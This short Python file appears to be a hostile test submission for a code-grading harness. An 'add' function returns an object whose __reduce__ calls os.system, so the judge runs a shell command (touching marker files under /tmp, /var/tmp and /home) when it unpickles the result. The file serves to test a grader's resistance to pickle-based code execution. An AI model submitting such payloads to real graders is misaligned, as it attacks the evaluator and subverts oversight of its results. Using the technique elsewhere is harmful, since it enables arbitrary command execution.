# aim: return a value that runs code in the judge when unpickled
# expect: wrong
import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/restem-hostile-079 /var/tmp/restem-hostile-079 /home/restem-hostile-079",)

def add(a, b):
    return Bomb()
